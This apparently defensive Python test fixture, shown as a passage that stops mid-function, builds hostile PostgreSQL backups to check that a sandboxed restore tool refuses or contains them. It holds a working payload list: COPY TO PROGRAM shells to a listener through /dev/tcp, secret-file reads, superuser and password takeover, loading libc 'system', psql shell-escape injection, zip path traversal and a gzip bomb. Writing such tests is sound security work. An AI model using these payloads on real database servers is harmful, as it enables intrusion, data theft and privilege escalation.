"""Backups as an attacker makes them: real dumps of databases full of code, edited archives, scripts written by hand.

Nearly all of them call `attack`, a function that tries everything that would have an effect outside of its database,
one thing after the other, as whoever runs it.
"""

from __future__ import annotations

import gzip
import os
import tarfile
import zipfile
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

from sandbox.sample.make import DUMP_OPTIONS
from sandbox.server import ADMIN
from tests.toc import Toc

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from sandbox.server import Server

HONEY = "honey-5f3c9b"
"""Content of a file of the server's host, which must come into no database."""
PASSWORD = "intruder-5f3c9b"
MAKER = "hostile_maker"

BASE = """
CREATE TYPE public.mood AS ENUM ('calm', 'tired');
CREATE TABLE public.tb_unit (id bigint PRIMARY KEY, code varchar(20) NOT NULL UNIQUE);
CREATE TABLE public.tb_person (id bigint PRIMARY KEY, name varchar(50) NOT NULL, mood public.mood,
    unit_id bigint REFERENCES public.tb_unit, card text);
INSERT INTO public.tb_unit VALUES (1, 'one'), (2, 'two');
INSERT INTO public.tb_person SELECT i, 'Fulano ' || i, 'calm', 1 + i % 2, 'card' FROM generate_series(1, 3) i;
COMMENT ON TABLE public.tb_person IS 'harmless';
"""

STUBS = """
CREATE FUNCTION public.attack(place text) RETURNS integer LANGUAGE plpgsql AS 'BEGIN RETURN 1; END';
CREATE FUNCTION public.attack_by(v bigint) RETURNS bigint LANGUAGE plpgsql IMMUTABLE AS
    'BEGIN PERFORM public.attack(''by''); RETURN v; END';
CREATE FUNCTION public.attack_if(v text) RETURNS boolean LANGUAGE plpgsql AS
    'BEGIN PERFORM public.attack(''if''); RETURN true; END';
CREATE FUNCTION public.attack_fired() RETURNS trigger LANGUAGE plpgsql AS
    'BEGIN PERFORM public.attack(''trigger''); RETURN NEW; END';
"""
"""`attack` as long as the database is made: its maker is nobody to attack."""


@dataclass(frozen=True)
class Traps:
    """What an attack would touch.

    :param folder: a folder in which the server's user may write, with the file ``honey``.
    :param host: and `port`: where somebody listens.
    :param only: what `attack` tries instead of everything.
    """

    folder: str
    host: str
    port: int
    only: str = ""

    @property
    def arsenal(self) -> tuple[str, ...]:
        """Statements, each with an effect outside of the database of who may carry it out."""
        at = {"d": self.folder, "host": self.host, "port": self.port, "pw": PASSWORD, "admin": ADMIN}
        return tuple(statement.strip().format_map(at) for statement in (self.only or _ARSENAL).split(";;"))

    @property
    def attack(self) -> str:
        """The function, as it is dumped."""
        tries = "".join(
            f"  BEGIN EXECUTE $q${statement}$q$; EXCEPTION WHEN OTHERS THEN NULL; END;\n" for statement in self.arsenal
        )
        return (
            "CREATE OR REPLACE FUNCTION public.attack(place text) RETURNS integer LANGUAGE plpgsql AS $attack$\n"
            "BEGIN\n"
            "  IF current_setting('attack.tried', true) = current_user THEN RETURN 1; END IF;\n"
            f"  PERFORM set_config('attack.tried', current_user, false);\n{tries}  RETURN 1;\nEND $attack$;"
        )


_ARSENAL = """
CREATE TABLE public.loot (v text) ;;
COPY (SELECT 1) TO PROGRAM 'touch {d}/program' ;;
COPY (SELECT 1) TO PROGRAM 'bash -c "echo x > /dev/tcp/{host}/{port}"' ;;
COPY (SELECT 1) TO PROGRAM 'bash -c "echo x > /dev/udp/{host}/{port}"' ;;
COPY (SELECT 1) TO '{d}/copied' ;;
COPY public.loot FROM '{d}/honey' ;;
COPY public.loot FROM PROGRAM 'cat {d}/honey' ;;
INSERT INTO public.loot SELECT pg_read_file('{d}/honey') ;;
INSERT INTO public.loot SELECT encode(pg_read_binary_file('{d}/honey'), 'escape') ;;
INSERT INTO public.loot SELECT pg_ls_dir('{d}') ;;
SELECT lo_import('{d}/honey') ;;
SELECT lo_from_bytea(4711, 'x') ;;
SELECT lo_export(4711, '{d}/exported') ;;
INSERT INTO public.loot SELECT xmlparse(DOCUMENT
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file://{d}/honey">]><a>&x;</a>')::text ;;
INSERT INTO public.loot SELECT xmlparse(DOCUMENT
    '<!DOCTYPE a SYSTEM "http://{host}:{port}/a.dtd"><a/>')::text ;;
CREATE ROLE intruder SUPERUSER LOGIN PASSWORD '{pw}' ;;
ALTER ROLE {admin} PASSWORD '{pw}' ;;
ALTER ROLE {admin} SET search_path = evil ;;
ALTER ROLE CURRENT_USER SUPERUSER ;;
ALTER ROLE CURRENT_USER CREATEROLE CREATEDB REPLICATION BYPASSRLS ;;
GRANT {admin} TO CURRENT_USER ;;
GRANT pg_execute_server_program, pg_read_server_files, pg_write_server_files TO CURRENT_USER ;;
SET ROLE {admin} ;;
SET SESSION AUTHORIZATION {admin} ;;
ALTER DATABASE witness SET default_transaction_read_only = on ;;
ALTER DATABASE witness OWNER TO CURRENT_USER ;;
GRANT ALL ON DATABASE witness TO PUBLIC ;;
COMMENT ON DATABASE postgres IS 'intruder' ;;
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE application_name = 'witness' ;;
SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE application_name = 'witness' ;;
SELECT pg_reload_conf() ;;
SELECT pg_create_physical_replication_slot('intruder') ;;
COPY (SELECT 'log_statement = all') TO '{d}/auto.conf' ;;
LOAD '{d}/evil.so' ;;
CREATE FUNCTION public.system(cstring) RETURNS integer LANGUAGE c AS 'libc.so.6', 'system' ;;
CREATE FUNCTION public.inner_call(text) RETURNS text LANGUAGE internal AS 'pg_read_file_all' ;;
CREATE EXTENSION dblink ;;
SELECT public.dblink_connect('a', 'host={host} port={port} connect_timeout=1') ;;
CREATE EXTENSION postgres_fdw ;;
CREATE EXTENSION file_fdw ;;
CREATE EXTENSION adminpack ;;
CREATE EXTENSION plperlu ;;
CREATE EXTENSION plpython3u ;;
CREATE FOREIGN DATA WRAPPER evil ;;
CREATE SUBSCRIPTION intruder CONNECTION 'host={host} port={port} connect_timeout=1' PUBLICATION p
    WITH (create_slot = false, copy_data = false) ;;
CREATE EVENT TRIGGER intruder ON ddl_command_start EXECUTE FUNCTION public.attack_event()
"""

_SPOIL = f"""
CREATE FUNCTION public.spoil(v text) RETURNS boolean LANGUAGE plpgsql AS $spoil$ BEGIN
    IF current_user = '{MAKER}' THEN RETURN true; END IF;
    ALTER ROLE CURRENT_USER PASSWORD '{PASSWORD}';
    ALTER ROLE CURRENT_USER SET search_path = evil;
    ALTER ROLE CURRENT_USER SET local_preload_libraries = 'evil';
    ALTER ROLE CURRENT_USER IN DATABASE witness SET statement_timeout = 1;
    BEGIN
        EXECUTE 'GRANT ' || current_user || ' TO {MAKER}';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    EXECUTE 'ALTER DATABASE ' || current_database() || ' IS_TEMPLATE true CONNECTION LIMIT 0';
    EXECUTE 'ALTER DATABASE ' || current_database() || ' SET local_preload_libraries = evil';
    EXECUTE 'ALTER DATABASE ' || current_database() || ' SET role = {MAKER}';
    EXECUTE 'GRANT ALL ON DATABASE ' || current_database() || ' TO PUBLIC';
    RETURN true;
END $spoil$;
"""
"""What a role may do to itself and to its own database, so that our next session there is spoilt."""

_DATABASE_SETTINGS = {
    "role": "hostile_maker",
    "statement_timeout": "1",
    "lock_timeout": "1",
    "idle_in_transaction_session_timeout": "1",
    "default_transaction_read_only": "on",
    "default_transaction_isolation": "serializable",
    "standard_conforming_strings": "off",
    "row_security": "on",
    "extra_float_digits": "-15",
    "datestyle": "SQL, DMY",
    "intervalstyle": "sql_standard",
    "bytea_output": "escape",
    "timezone": "Asia/Tokyo",
    "quote_all_identifiers": "on",
    "client_encoding": "LATIN1",
    "check_function_bodies": "off",
}


@dataclass(frozen=True)
class Maker:
    """Makes the files, of databases of its own on a server."""

    server: Server
    folder: Path
    traps: Traps

    def dump(
        self, change: str, *, options: tuple[str, ...] = DUMP_OPTIONS, superuser: str = "", after: str = ""
    ) -> Path:
        """A real backup of a small database, changed by its owner, and then by the superuser.

        :param after: what the superuser must say before the database can be dropped.
        """
        server, path = self.server, self.folder / "backup"
        server.create_role(MAKER)
        server.drop_database("hostile")
        server.create_database("hostile", MAKER)
        try:
            with server.connect("hostile", MAKER) as conn:
                conn.execute(STUBS.encode())
                conn.execute(BASE.encode())
                conn.execute(self.fill(change).encode())
            with server.connect("hostile") as conn:
                for statement in self.fill(superuser).split(";;"):
                    if statement.strip():
                        conn.execute(statement.encode())
            with server.connect("hostile", MAKER) as conn:
                conn.execute(self.traps.attack.encode())
            server.tool("pg_dump", *options, "--file", server.path(path), database="hostile").run()
            with server.connect("hostile") as conn:
                conn.execute(after.encode())
        finally:
            server.drop_database("hostile")
        return path

    def fill(self, statement: str) -> str:
        """Put the places of the traps into a statement: ``@d``, ``@host``, ``@port``."""
        traps = self.traps
        return statement.replace("@d", traps.folder).replace("@host", traps.host).replace("@port", str(traps.port))

    def script(self, body: str, *, head: bytes = b"", newline: str = "\n") -> Path:
        """A plain script."""
        path = self.folder / "backup"
        whole = _HEAD + self.fill(body) + _FOOT
        path.write_bytes(head + whole.replace("\n", newline).encode())
        return path

    def edited(self, change: Callable[[Toc, Traps], None]) -> Path:
        """A directory whose table of contents was changed."""
        path = self.dump("", options=("-Fd",))
        toc = Toc.read((path / "toc.dat").read_bytes())
        change(toc, self.traps)
        (path / "toc.dat").write_bytes(toc.write())
        return path


_HEAD = """--
-- PostgreSQL database dump
--
SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;
CREATE TABLE public.tb_unit (id bigint PRIMARY KEY, code varchar(20) NOT NULL UNIQUE);
COPY public.tb_unit (id, code) FROM stdin;
1\tone
\\.
"""
_FOOT = "\n--\n-- PostgreSQL database dump complete\n--\n"


@dataclass(frozen=True)
class Hostile:
    """One hostile backup.

    :param make: makes the file.
    :param central: what becomes of it as a central: ``restored``, ``refused``; or ``either``, with nothing told.
    :param source: what becomes of it as a source.
    """

    make: Callable[[Maker], Path]
    central: str = "restored"
    source: str = "restored"


def _dump(change: str, central: str = "restored", source: str = "restored", **options: Any) -> Hostile:
    return Hostile(lambda maker: maker.dump(change, **options), central, source)


def _script(body: str, central: str = "refused", source: str = "refused", **options: Any) -> Hostile:
    return Hostile(lambda maker: maker.script(body, **options), central, source)


def _edited(change: Callable[[Toc, Traps], None], central: str = "refused", source: str = "refused") -> Hostile:
    return Hostile(lambda maker: maker.edited(change), central, source)


# Real dumps of databases full of code

HOOKS = {
    "check": "ALTER TABLE tb_person ADD CHECK (public.attack_if(card))",
    "table check": "ALTER TABLE tb_unit ADD CHECK (public.attack_if(code))",
    "domain": "CREATE DOMAIN evil AS text CHECK (public.attack_if(VALUE)); ALTER TABLE tb_person ALTER card TYPE evil",
    "default": "ALTER TABLE tb_person ALTER card SET DEFAULT public.attack('default')::text",
    "index": "CREATE INDEX ON tb_person (public.attack_by(id))",
    "constant in an index": "CREATE INDEX ON tb_person ((id + public.attack_by(1)))",
    "predicate": "CREATE INDEX ON tb_unit (code) WHERE public.attack_by(id) > 0 AND public.attack_by(1) = 1",
    "statistics": "CREATE STATISTICS public.st ON (public.attack_by(id)), (id + public.attack_by(2)) FROM tb_person",
    "generated": "ALTER TABLE tb_unit ADD twice bigint GENERATED ALWAYS AS (public.attack_by(id)) STORED",
    "trigger": "CREATE TRIGGER t BEFORE INSERT OR UPDATE ON tb_person FOR EACH ROW EXECUTE FUNCTION attack_fired();"
    "ALTER TABLE tb_person ENABLE ALWAYS TRIGGER t",
    "rule": "CREATE RULE r AS ON INSERT TO tb_person DO ALSO SELECT public.attack('rule');"
    "ALTER TABLE tb_person ENABLE ALWAYS RULE r",
    "view": "CREATE VIEW v AS SELECT public.attack('view'), count(*) FROM tb_person",
    "matview": "CREATE MATERIALIZED VIEW m AS SELECT public.attack('matview') AS a, count(*) FROM tb_person",
    "aggregate": "CREATE FUNCTION add(bigint, bigint) RETURNS bigint LANGUAGE plpgsql AS"
    " 'BEGIN PERFORM public.attack(''aggregate''); RETURN 1; END';"
    "CREATE AGGREGATE public.count(bigint) (SFUNC = add, STYPE = bigint, INITCOND = '0');"
    "CREATE MATERIALIZED VIEW counted AS SELECT public.count(id) AS n FROM tb_person",
    "cast": "CREATE FUNCTION tell(mood) RETURNS text LANGUAGE plpgsql AS"
    " 'BEGIN PERFORM public.attack(''cast''); RETURN ''x''; END';"
    "CREATE CAST (mood AS text) WITH FUNCTION tell(mood) AS IMPLICIT;"
    "CREATE FUNCTION tell(tb_unit) RETURNS text LANGUAGE plpgsql AS"
    " 'BEGIN PERFORM public.attack(''cast''); RETURN ''x''; END';"
    "CREATE CAST (tb_unit AS text) WITH FUNCTION tell(tb_unit)",
    "publication": "CREATE PUBLICATION everything FOR TABLE tb_person",
}
"""Code in every place where a database can have it, by what it hangs on."""

_OPERATOR = """
CREATE FUNCTION same_{n}({a}, {b}) RETURNS boolean LANGUAGE plpgsql AS
    'BEGIN PERFORM public.attack(''operator''); RETURN $1::text = $2::text; END';
CREATE OPERATOR public.{op} (LEFTARG = {a}, RIGHTARG = {b}, FUNCTION = same_{n})
"""
_PAIRS = [
    ("=", left, right)
    for left, rights in (
        ("oid", ("smallint", "integer", "bigint")),
        ("name", ("varchar",)),
        ("varchar", ("varchar", "text", "name")),
        ("regclass", ("oid",)),
        ('"char"', ("text",)),
    )
    for right in rights
] + [("~", "name", "name"), ("<>", "oid", "bigint"), (">=", "oid", "integer"), ("~~", "name", "name")]
HOOKS["operators"] = ";".join(
    _OPERATOR.format(n=n, a=left, b=right, op=operator) for n, (operator, left, right) in enumerate(_PAIRS)
)
HOOKS["overloads"] = ";".join(
    f"CREATE FUNCTION public.{name}({kinds}) RETURNS {result} LANGUAGE plpgsql AS"
    " 'BEGIN PERFORM public.attack(''overload''); RETURN NULL; END'"
    for name, kinds, result in (
        ("format_type", "oid, smallint", "text"),
        ("md5", "varchar", "text"),
        ("length", "varchar", "integer"),
        ("coalesce_", "varchar", "text"),
        ("quote_ident", "name", "text"),
        ("pg_get_indexdef", "oid, smallint, boolean", "text"),
        ("pg_relation_size", "oid", "bigint"),
        ("to_regclass", "varchar", "regclass"),
        ("concat_ws", "text, text, text", "text"),
        ("hashtext", "varchar", "integer"),
        ("set_config", "varchar, varchar, boolean", "text"),
    )
)
OWN_NAMES = """
CREATE SCHEMA homolog; CREATE SCHEMA homolog_base; CREATE SCHEMA src_1;
CREATE TABLE homolog.base_table (table_name text PRIMARY KEY, rows bigint NOT NULL);
CREATE TRIGGER t BEFORE INSERT ON homolog.base_table FOR EACH ROW EXECUTE FUNCTION attack_fired();
CREATE VIEW homolog.base_done AS SELECT now() AS at WHERE public.attack('view') = 1
"""

_ALONE = ("check", "domain", "constant in an index", "operators")
FILES: dict[str, Hostile] = {f"dump: {name}": _dump(HOOKS[name]) for name in _ALONE}
FILES |= {
    "dump: everything at once": _dump(";".join(HOOKS.values())),
    "dump: everything at once, tar": _dump(";".join(HOOKS.values()), options=("-Ft",)),
    "dump: everything at once, plain": _dump(";".join(HOOKS.values()), options=("-Fp",)),
    "dump: everything at once, INSERTs": _dump(
        ";".join(v for k, v in HOOKS.items() if k != "generated"), options=("-Fc", "--inserts")
    ),
    "dump: row security": _dump(
        "ALTER TABLE tb_person ENABLE ROW LEVEL SECURITY; ALTER TABLE tb_person FORCE ROW LEVEL SECURITY;"
        "CREATE POLICY p ON tb_person USING (public.attack_if(card))",
        options=("-Fc", "--enable-row-security"), central="either", source="either",
    ),
    "dump: names of many lines": _dump(
        'CREATE TABLE "x\n\\! touch @d/name\nCOPY public.tb_unit (id) FROM PROGRAM \'id\';\n--" ();'
        'COMMENT ON TABLE "x\n\\! touch @d/name\nCOPY public.tb_unit (id) FROM PROGRAM \'id\';\n--"'
        " IS E'y\\n\\\\! id\\n'",
        source="refused",  # it is no table of the central
    ),
    "dump: own role and database": _dump(
        _SPOIL + "CREATE MATERIALIZED VIEW m AS SELECT public.spoil(card) FROM tb_person",
        options=("-Ft",), central="either",
    ),
    "dump: own role and database, early": _dump(
        _SPOIL + "ALTER TABLE tb_unit ADD CHECK (public.spoil(code))", central="either",
    ),
    "dump: names of our own": _dump(OWN_NAMES, central="refused"),
    "dump: event trigger": _dump(
        "CREATE FUNCTION attack_event() RETURNS event_trigger LANGUAGE plpgsql AS"
        " 'BEGIN PERFORM public.attack(''event''); END'",
        superuser="CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION public.attack_event()",
        central="refused", source="refused",
    ),
    "dump: functions in C": _dump(
        "", superuser="CREATE FUNCTION public.c(text) RETURNS text LANGUAGE internal AS 'pg_read_file_all'",
        central="refused", source="refused",
    ),
    "dump: subscription": _dump(
        "", superuser="CREATE SUBSCRIPTION s CONNECTION 'host=@host port=@port' PUBLICATION p"
        " WITH (connect = false, slot_name = NONE)", after="DROP SUBSCRIPTION s",
    ),
    "dump: settings of the database": _dump(
        "", options=("-Fc", "--create"),
        superuser=" ;; ".join(f"ALTER DATABASE hostile SET {n} = {v!r}" for n, v in _DATABASE_SETTINGS.items()),
    ),
    "dump: settings of the database, plain": _dump(
        "", options=("-Fp", "--create"),
        superuser=" ;; ".join(f"ALTER DATABASE hostile SET {n} = {v!r}" for n, v in _DATABASE_SETTINGS.items()),
    ),
    "dump: a template": _dump(
        "", options=("-Fc", "--create"), superuser="ALTER DATABASE hostile IS_TEMPLATE true",
    ),
    "dump: views without end": _dump(
        "CREATE FUNCTION f(bigint) RETURNS bigint LANGUAGE plpgsql STABLE AS 'BEGIN RETURN 1; END';"
        "CREATE MATERIALIZED VIEW m AS SELECT f(1) AS n;"
        "CREATE OR REPLACE FUNCTION f(bigint) RETURNS bigint LANGUAGE plpgsql STABLE AS"
        " 'BEGIN RETURN (SELECT public.f($1 + 1)); END'",
        central="refused",
    ),
}  # fmt: skip

# Archives that were edited


def _comment(statement: str) -> Callable[[Toc, Traps], None]:
    def change(toc: Toc, traps: Traps) -> None:
        toc.entry("COMMENT")["defn"] = statement.replace("@d", traps.folder)

    return change


def _unit(**fields: str) -> Callable[[Toc, Traps], None]:
    def change(toc: Toc, traps: Traps) -> None:
        entry = toc.entry("TABLE DATA", "tb_unit")
        entry |= {name: value.replace("@d", traps.folder) for name, value in fields.items()}

    return change


def _renamed(desc: str, new: str, tag: str, defn: str) -> Callable[[Toc, Traps], None]:
    def change(toc: Toc, traps: Traps) -> None:
        toc.entry(desc).update(desc=new, tag=tag, defn=defn.replace("@d", traps.folder))

    return change


def _cycle(toc: Toc, traps: Traps) -> None:
    unit, person = toc.entry("TABLE", "tb_unit"), toc.entry("TABLE", "tb_person")
    rows = toc.entry("TABLE DATA", "tb_unit")
    unit["deps"] = [str(person["id"]), str(unit["id"]), str(rows["id"])]
    person["deps"] = [str(unit["id"])]


_LINES = "\n\\! touch @d/line\nALTER ROLE homolog_admin SET search_path = evil;\nCOPY public.tb_person FROM stdin;\n9\n"

FILES |= {
    "archive: program in a comment": _edited(_comment("COPY public.tb_unit TO PROGRAM 'touch @d/comment';\n")),
    "archive: role in a comment": _edited(_comment("CREATE ROLE intruder SUPERUSER;\n")),
    "archive: system in a comment": _edited(_comment("ALTER SYSTEM SET archive_command = 'touch @d/system';\n")),
    "archive: drop of another": _edited(_comment("DROP DATABASE witness;\n")),
    "archive: tablespace in a comment": _edited(_comment("CREATE TABLESPACE evil LOCATION '@d';\n")),
    "archive: become in a comment": _edited(
        _comment("RESET SESSION AUTHORIZATION; SET ROLE homolog_admin; CREATE ROLE intruder SUPERUSER;\n")
    ),
    "archive: many statements in a comment": _edited(
        _comment("COMMIT; SELECT 1; COPY public.tb_unit TO PROGRAM 'touch @d/many'; COMMIT;\n")
    ),
    "archive: rows from a program": _edited(_unit(copy="COPY public.tb_unit FROM PROGRAM 'touch @d/rows';\n"), ),
    "archive: rows from a file": _edited(_unit(copy="COPY public.tb_unit (code) FROM '@d/honey';\n"), ),
    "archive: rows of the server's catalog": _edited(
        _unit(copy="COPY pg_catalog.pg_authid (oid, rolname) FROM stdin;\n")),
    "archive: rows of another table": _edited(
        _unit(copy="COPY public.tb_person (id, name) FROM stdin;\n"), central="either"),
    "archive: rows and more": _edited(
        _unit(copy="COPY public.tb_unit (id, code) FROM stdin;\n1\tx\n\\.\nCREATE ROLE intruder SUPERUSER;\n"
              "\\! touch @d/more\nCOPY public.tb_unit (id, code) FROM stdin;\n"), central="either"),
    "archive: names of many lines": _edited(
        _unit(tag="tb_unit" + _LINES, owner="x" + _LINES, namespace="public" + _LINES),
        central="either", source="either"),
    "archive: a name to run": _edited(
        _unit(owner="x; CREATE ROLE intruder SUPERUSER", tablespace="x'; CREATE ROLE intruder SUPERUSER; --",
              am="heap; CREATE ROLE intruder SUPERUSER"), central="either", source="restored"),
    "archive: an extension that is not one": _edited(
        _renamed("COMMENT", "EXTENSION", "dblink", "CREATE EXTENSION dblink; CREATE ROLE intruder SUPERUSER;\n"),
        source="refused"),
    "archive: a schema of an extension": _edited(
        _renamed("COMMENT", "EXTENSION", "plpgsql\"; CREATE ROLE intruder SUPERUSER; --", "SELECT 1;\n"),
        source="refused"),
    "archive: rights": _edited(
        _renamed("COMMENT", "ACL", "TABLE tb_unit", "GRANT pg_execute_server_program TO homolog_central;\n"),
        central="restored", source="restored"),
    "archive: properties": _edited(
        _renamed("COMMENT", "DATABASE PROPERTIES", "hostile",
                 "ALTER DATABASE witness SET search_path TO 'x';\nALTER DATABASE hostile SET role TO 'homolog_admin';\n"
                 "CREATE ROLE intruder SUPERUSER;\nALTER DATABASE hostile OWNER TO homolog_admin;\n"
                 "ALTER DATABASE hostile SET local_preload_libraries TO 'evil';\n"
                 "ALTER DATABASE hostile SET idle_session_timeout TO '1';\n"), central="restored", source="restored"),
    "archive: a cycle": _edited(_cycle, central="either", source="either"),
    "archive: rows outside of its folder": _edited(_unit(file="../backup.honey")),
    "archive: rows of an absolute path": _edited(_unit(file="/etc/hostname"), source="refused"),
}  # fmt: skip

# Scripts written by hand

_META = {
    "shell": "\\! touch @d/meta\n",
    "shell after a space": "   \\! touch @d/meta\n",
    "shell within a statement": "SELECT 1 \\! touch @d/meta\n;",
    "shell in a comment's end": "/* x */ \\! touch @d/meta\n",
    "pipe": "SELECT 1 \\g |touch @d/meta\n",
    "query that is run": "SELECT 'CREATE ROLE intruder SUPERUSER' \\gexec\n",
    "output": "\\o |touch @d/meta\n",
    "write": "\\w @d/meta\n",
    "copy": "\\copy public.tb_unit to program 'touch @d/meta'\n",
    "include": "\\i @d/honey\n",
    "backquotes": "\\set x `touch @d/meta`\n",
    "variable": "\\setenv PATH @d\n",
    "connect": "\\connect witness\n\\connect postgres\n",
    "restricted": "\\restrict key\n\\! touch @d/meta\n\\unrestrict key\n",
    "unrestricted": "\\restrict key\n\\unrestrict other\n\\! touch @d/meta\n",
    "after rows": "COPY public.tb_unit (id, code) FROM stdin;\n2\tx\n\\.\n\\! touch @d/meta\n",
    "in quotes": "DO $$\\! touch @d/meta\n$$;",
}
FILES |= {f"script: {name}": _script(body) for name, body in _META.items() if name != "in quotes"}
FILES |= {
    "script: in quotes": _script(_META["in quotes"], source="restored"),
    "script: shell, CRLF": _script(_META["shell"], newline="\r\n"),
    "script: shell after a mark": _script(_META["shell"], head=b"\xef\xbb\xbf"),
    "script: shell in rows": _script(
        "COPY public.tb_unit (id, code) FROM stdin;\n\\! touch @d/meta\n\\.\n", source="refused"
    ),
    "script: to a program": _script("COPY public.tb_unit TO PROGRAM 'touch @d/program';"),
    "script: from a program": _script("COPY public.tb_unit FROM PROGRAM 'touch @d/program';"),
    "script: hidden program": _script("SELECT 1; /* */ COPY public.tb_unit TO PROGRAM 'touch @d/p';"),
    "script: program in a block": _script(
        "DO $$BEGIN EXECUTE 'COPY public.tb_unit TO PROGRAM ''touch @d/program'''; END$$;", source="restored"
    ),
    "script: file": _script("SELECT pg_catalog.lo_import('@d/honey');", source="restored"),
    "script: reads a file": _script("CREATE TABLE loot AS SELECT pg_read_file('@d/honey');", source="refused"),
    "script: new superuser": _script("CREATE ROLE intruder SUPERUSER;"),
    "script: other superuser": _script("ALTER USER homolog_admin PASSWORD 'x';", central="restored", source="restored"),
    "script: password": _script(f"DO $$BEGIN ALTER ROLE homolog_admin PASSWORD '{PASSWORD}'; END$$;",
                                source="restored"),
    "script: own role": _script(
        f"DO $$BEGIN ALTER ROLE CURRENT_USER PASSWORD '{PASSWORD}'; ALTER ROLE CURRENT_USER SET search_path = evil;"
        " ALTER ROLE CURRENT_USER SET local_preload_libraries = 'evil';"
        " ALTER ROLE CURRENT_USER IN DATABASE witness SET search_path = evil; END$$;",
        central="restored", source="restored",
    ),
    "script: own database": _script(
        "DO $$BEGIN EXECUTE 'ALTER DATABASE ' || current_database() || ' IS_TEMPLATE true CONNECTION LIMIT 0';"
        " EXECUTE 'ALTER DATABASE ' || current_database() || ' SET local_preload_libraries = evil';"
        " EXECUTE 'ALTER DATABASE ' || current_database() || ' SET role = hostile_maker';"
        " EXECUTE 'GRANT ALL ON DATABASE ' || current_database() || ' TO PUBLIC'; END$$;",
        central="restored", source="restored",
    ),
    "script: own database, at once": _script(
        "DO $$BEGIN EXECUTE 'ALTER DATABASE ' || current_database() || ' IS_TEMPLATE true'; END$$; SELECT 1/0;",
        source="restored",
    ),
    "script: other database": _script("DROP DATABASE witness;", central="restored", source="restored"),
    "script: alter other database": _script(
        "ALTER DATABASE witness SET search_path = evil;", central="restored", source="restored"
    ),
    "script: system": _script("ALTER SYSTEM SET archive_command = 'touch @d/system';"),
    "script: tablespace": _script("CREATE TABLESPACE evil LOCATION '@d';"),
    "script: library": _script("LOAD '@d/evil.so';", source="restored"),
    "script: extension": _script("CREATE EXTENSION dblink;"),
    "script: hidden extension": _script("DO $$BEGIN CREATE EXTENSION dblink; END$$;", source="restored"),
    "script: subscription": _script(
        "CREATE SUBSCRIPTION s CONNECTION 'host=@host port=@port' PUBLICATION p;", central="restored", source="restored"
    ),
    "script: wrapper": _script("CREATE FOREIGN DATA WRAPPER evil;"),
    "script: function in C": _script(
        "CREATE FUNCTION f(cstring) RETURNS int LANGUAGE c AS 'libc.so.6', 'system'; SELECT f('touch @d/c');"
    ),
    "script: other's sessions": _script(
        "DO $$BEGIN PERFORM pg_terminate_backend(pid) FROM pg_stat_activity WHERE application_name = 'witness'; END$$;",
        central="refused", source="restored",
    ),
    "script: locks and notes": _script(
        "BEGIN; SELECT pg_advisory_lock(hashtext('homolog.merge')); NOTIFY homolog; LISTEN homolog;"
        "LOCK TABLE public.tb_unit;", central="either", source="restored",
    ),
    "script: a large object of 4 TB": _script(
        "SELECT pg_catalog.lo_create('77');\nSELECT pg_catalog.lo_put(77, 4398046509000, 'end');"
    ),
    "script: not UTF-8": Hostile(
        lambda maker: _bytes(maker, b'INSERT INTO "\xff\xfe" VALUES (1);CREATE SCHEMA "\xff";'), "refused", "refused"
    ),
}  # fmt: skip


def _bytes(maker: Maker, body: bytes) -> Path:
    path = maker.script("")
    path.write_bytes(path.read_bytes().replace(_FOOT.encode(), body + _FOOT.encode()))
    return path


# Folders, tar, zip and gzip files


def _folder(spoil: Callable[[Path, Maker], None]) -> Hostile:
    def make(maker: Maker) -> Path:
        path = maker.dump("SELECT lo_from_bytea(77, 'object')", options=("-Fd", "-Z0"))
        spoil(path, maker)
        return path

    return Hostile(make, "refused", "refused")


def _honey(maker: Maker) -> Path:
    path = maker.folder / "backup.honey"
    path.write_text(HONEY)
    return path


def _link_object(path: Path, maker: Maker) -> None:
    (found,) = path.glob("blob_77.dat*")
    found.unlink()
    found.symlink_to(_honey(maker))


def _link_toc(path: Path, maker: Maker) -> None:
    moved = path.with_name("moved")
    (path / "toc.dat").rename(moved)
    (path / "toc.dat").symlink_to(moved)


def _pipe(path: Path, maker: Maker) -> None:
    (found,) = path.glob("blob_77.dat*")
    found.unlink()
    os.mkfifo(found)


def _list_outside(path: Path, maker: Maker) -> None:
    (listed,) = path.glob("blobs*.toc")
    _honey(maker)
    listed.write_text("77 ../backup.honey\n")


def _tar(name: str, content: bytes, *, size: int | None = None, kind: bytes = tarfile.REGTYPE) -> Callable[..., Path]:
    def make(maker: Maker) -> Path:
        inner = maker.dump("", options=("-Ft",))
        member = tarfile.TarInfo(name)
        member.size, member.type, member.linkname = len(content), kind, str(_honey(maker))
        block = bytearray(member.tobuf())
        if size is not None:
            block[124:136] = size.to_bytes(12, "big", signed=True)
            block[148:156] = b"%06o\0 " % (sum(block[:148]) + sum(block[156:512]) + 8 * 32)
        whole = inner.read_bytes()
        padded = content + b"\0" * (-len(content) % 512)
        inner.write_bytes(bytes(block) + padded + whole)
        return inner

    return make


def _zip(*members: tuple[str, bytes], link: bool = False) -> Callable[[Maker], Path]:
    def make(maker: Maker) -> Path:
        inner = maker.dump("").rename(maker.folder / "inner")
        path = maker.folder / "backup"
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.write(inner, "../../central.backup")
            for name, content in members:
                info = zipfile.ZipInfo(maker.fill(name))
                info.external_attr = (0o120777 if link else 0o644) << 16
                archive.writestr(info, content)
        inner.unlink()
        return path

    return make


def _bomb(maker: Maker) -> Path:
    """Two GB of nothing in two MB."""
    path = maker.folder / "backup"
    with gzip.open(path, "wb", compresslevel=1) as file:
        block = bytes(1 << 20)
        file.write(b"junk")
        for _ in range(256):
            file.write(block)
    return path


def _lying_zip(maker: Maker) -> Path:
    """A zip file whose list of members tells of more bytes than any disk has."""
    path = _zip()(maker)
    raw = bytearray(path.read_bytes())
    directory = raw.index(b"PK\x01\x02")
    raw[directory + 24 : directory + 28] = (0xFFFFFFF0).to_bytes(4, "little")
    copies = bytes(raw[directory : raw.index(b"PK\x05\x06")]).replace(b"central.backup", b"%s")
    many = b"".join(copies.replace(b"%s", b"central.%06d" % n) for n in range(400)) if len(copies) else b""
    end = bytearray(raw[raw.index(b"PK\x05\x06") :])
    end[8:12] = (400).to_bytes(2, "little") * 2
